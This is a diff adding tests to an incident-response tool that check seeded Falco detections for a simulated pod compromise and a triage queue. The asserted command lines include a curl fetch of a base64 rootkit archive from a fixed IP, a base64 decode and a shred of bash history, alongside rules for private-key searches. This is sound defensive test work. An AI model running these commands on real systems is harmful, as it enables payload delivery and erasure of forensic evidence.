@@ -230,3 +230,74 @@ def test_demo_evidence_has_a_custody_story_and_whole_chains(main_incident):
     assert items["node-journal (copy).log"].withdrawn
     assert not items["node-journal.log"].withdrawn
     assert all(evidence_services.ledger_check(e) == [] for e in items.values())
+
+
+# --- Falco detections (incidents/demo_detections.py) -------------------------------------------
+
+
+def test_the_main_incident_holds_the_pods_falco_detections(main_incident):
+    from incidents.models import CandidateStatus, Detection, IncidentCandidate
+
+    now = timezone.now()
+    # Falco's candidate (Sysdig's events of the same pod form another, attached too).
+    candidate = (
+        IncidentCandidate.objects.filter(incident=main_incident, detections__source="syscall")
+        .distinct()
+        .get()
+    )
+    assert candidate.status == CandidateStatus.ATTACHED
+    assert candidate.resolved_by.username == "isso"
+    assert candidate.group_key == "pod:store/store-frontend-ping-php"
+    assert candidate.system.acronym == "STORE"
+    detections = list(Detection.objects.filter(candidate=candidate).order_by("time_ns"))
+    assert candidate.count == len(detections) == 6
+    assert {d.user_name for d in detections} == {"www-data"}
+    assert {d.k8s_pod for d in detections} == {"store-frontend-ping-php"}
+    cmdlines = " ".join(d.process_cmdline for d in detections)
+    for step in ("bash", "curl -s http://198.51.100.23/kit/rk.tar.gz.b64", "base64 -d"):
+        assert step in cmdlines
+    assert detections[-1].rule == "Delete or rename shell history"
+    assert detections[-1].process_cmdline == "shred -f /var/www/.bash_history"
+    by_rule = {d.rule: d for d in detections}
+    assert by_rule["Clear Log Activities"].control_refs == ["NIST SP 800-53 AU-10"]
+    assert by_rule["Decoding Payload in Container"].priority == "Informational"
+    # Detected before the incident was identified, within minutes of its first detection.
+    assert abs(detections[0].time - main_incident.first_detected_at) < timedelta(minutes=1)
+    assert all(
+        timedelta(hours=5, minutes=55) < now - d.time < timedelta(hours=6, minutes=10)
+        for d in detections
+    )
+    assert main_incident.events.filter(data__candidate=candidate.pk).exists()
+
+
+def test_one_candidate_waits_in_the_isso_s_triage_queue(demo):
+    from incidents.models import CandidateStatus, IncidentCandidate
+
+    waiting = scope(IncidentCandidate.objects.all(), context_for(_user("isso"), demo)).filter(
+        status=CandidateStatus.OPEN
+    )
+    assert [c.group_key for c in waiting] == ["pod:store/store-cart-5f7b9c-q2x8d"]
+    candidate = waiting[0]
+    assert candidate.system.acronym == "STORE"
+    assert {d.rule for d in candidate.detections.all()} == {
+        "Read sensitive file untrusted",
+        "Search Private Keys or Passwords",
+    }
+    assert timedelta(minutes=15) < timezone.now() - candidate.last_seen < timedelta(minutes=30)
+    other = Agency.objects.get(abbreviation="ODA")
+    assert not scope(
+        IncidentCandidate.objects.all(), context_for(_user("outsider"), other)
+    ).exists()
+
+
+def test_the_demo_alerts_match_the_real_falco_rules():
+    """Names, priorities, tags and output formats are copied from the rule files."""
+    from incidents.demo_detections import RULES
+
+    from .test_falco_normalise import falco_rule
+
+    for name, (priority, tags, output) in RULES.items():
+        rule = falco_rule(name)
+        assert priority == str(rule["priority"]).strip(), name
+        assert tags == list(rule["tags"]), name
+        assert output == " ".join(rule["output"].split()), name
